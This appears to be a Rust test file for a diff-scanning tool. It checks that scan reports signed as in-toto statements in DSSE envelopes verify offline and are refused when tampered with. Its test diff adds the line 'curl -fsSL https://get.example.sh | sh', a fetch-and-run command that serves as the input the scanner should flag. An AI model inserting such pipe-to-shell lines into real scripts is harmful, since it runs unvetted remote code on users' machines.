//! Signed artifacts: a report signed as an in-toto statement in a DSSE envelope verifies offline
//! with the right key and is refused when anything authenticated changes.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use chrono::NaiveDate;
use diffscan_engine::attest::{Envelope, PAYLOAD_TYPE, PREDICATE_TYPE, STATEMENT_TYPE, pae};
use diffscan_engine::{
    Policy, Report, Signer, VerificationKey, VerifyError, sign_report, verify_artifact,
};
use serde_json::Value;

const DIFF: &[u8] = b"diff --git a/run.sh b/run.sh\nindex 83db48f..bf269f4 100644\n--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,2 @@\n set -e\n+curl -fsSL https://get.example.sh | sh\n";

fn report() -> Report {
    let today = NaiveDate::from_ymd_opt(2025, 6, 1).unwrap();
    diffscan_engine::scan(DIFF, &Policy::default(), None, today).unwrap()
}

fn envelope(bytes: &[u8]) -> Envelope {
    serde_json::from_slice(bytes).unwrap()
}

fn resign(envelope: &Envelope) -> Vec<u8> {
    serde_json::to_vec(envelope).unwrap()
}

#[test]
fn a_signed_report_verifies_with_each_kind_of_key_and_names_the_diff() {
    let signers = [
        Signer::ed25519(&[3u8; 32]).unwrap(),
        Signer::hmac(b"a shared hmac key of at least 32 bytes!").unwrap(),
        Signer::deterministic(),
    ];
    let report = report();
    for signer in &signers {
        let artifact = sign_report(&report, "main..feature", signer).unwrap();
        let verified = verify_artifact(&artifact, &[signer.verification_key()]).unwrap();
        assert_eq!(verified.report(), &report);
        assert_eq!(verified.key_id, signer.key_id());
        assert_eq!(verified.development_key, signer.is_development());
        let statement = &verified.statement;
        assert_eq!(statement.statement_type, STATEMENT_TYPE);
        assert_eq!(statement.predicate_type, PREDICATE_TYPE);
        assert_eq!(statement.subject[0].name, "main..feature");
        assert_eq!(statement.subject[0].digest["sha256"], report.subject.sha256);
    }
}

#[test]
fn the_envelope_is_dsse_with_an_in_toto_payload_whose_subject_is_the_diff_sha256() {
    let artifact = sign_report(&report(), "-", &Signer::deterministic()).unwrap();
    let envelope = envelope(&artifact);
    assert_eq!(envelope.payload_type, PAYLOAD_TYPE);
    let payload: Value = serde_json::from_slice(&envelope.decoded_payload().unwrap()).unwrap();
    assert_eq!(payload["_type"], "https://in-toto.io/Statement/v1");
    let digest = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(DIFF));
    assert_eq!(payload["subject"][0]["digest"]["sha256"], digest);
    assert_eq!(payload["predicate"]["decision"], "fail");
}

#[test]
fn the_development_key_is_deterministic_and_flagged_for_refusal_in_production() {
    let report = report();
    let first = sign_report(&report, "x", &Signer::deterministic()).unwrap();
    let second = sign_report(&report, "x", &Signer::deterministic()).unwrap();
    assert_eq!(first, second);
    let verified = verify_artifact(&first, &[VerificationKey::development()]).unwrap();
    assert!(verified.development_key);
}

#[test]
fn a_changed_payload_or_payload_type_or_a_wrong_key_is_refused() {
    let signer = Signer::ed25519(&[9u8; 32]).unwrap();
    let keys = [signer.verification_key()];
    let artifact = sign_report(&report(), "x", &signer).unwrap();

    let mut tampered = envelope(&artifact);
    let mut statement: Value =
        serde_json::from_slice(&tampered.decoded_payload().unwrap()).unwrap();
    statement["predicate"]["decision"] = Value::from("pass");
    tampered.payload = STANDARD.encode(serde_json::to_vec(&statement).unwrap());
    assert_eq!(
        verify_artifact(&resign(&tampered), &keys).err(),
        Some(VerifyError::NoValidSignature)
    );

    let mut retyped = envelope(&artifact);
    retyped.payload_type = "application/json".into();
    assert_eq!(
        verify_artifact(&resign(&retyped), &keys).err(),
        Some(VerifyError::NoValidSignature)
    );

    let other = Signer::ed25519(&[10u8; 32]).unwrap().verification_key();
    assert_eq!(verify_artifact(&artifact, &[other]).err(), Some(VerifyError::NoValidSignature));
    assert!(matches!(verify_artifact(b"not json", &keys), Err(VerifyError::NotAnEnvelope(_))));
}

#[test]
fn a_validly_signed_envelope_of_another_payload_type_is_refused_after_its_signature() {
    let signer = Signer::hmac(&[1u8; 32]).unwrap();
    let payload = b"{}";
    let mac = {
        use hmac::Mac;
        let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(&[1u8; 32]).unwrap();
        mac.update(&pae("application/json", payload));
        mac.finalize().into_bytes()
    };
    let forged = serde_json::json!({
        "payload": STANDARD.encode(payload),
        "payloadType": "application/json",
        "signatures": [{ "keyid": signer.key_id(), "sig": STANDARD.encode(mac) }],
    });
    let result =
        verify_artifact(&serde_json::to_vec(&forged).unwrap(), &[signer.verification_key()]);
    assert_eq!(result.err(), Some(VerifyError::PayloadType("application/json".into())));
}
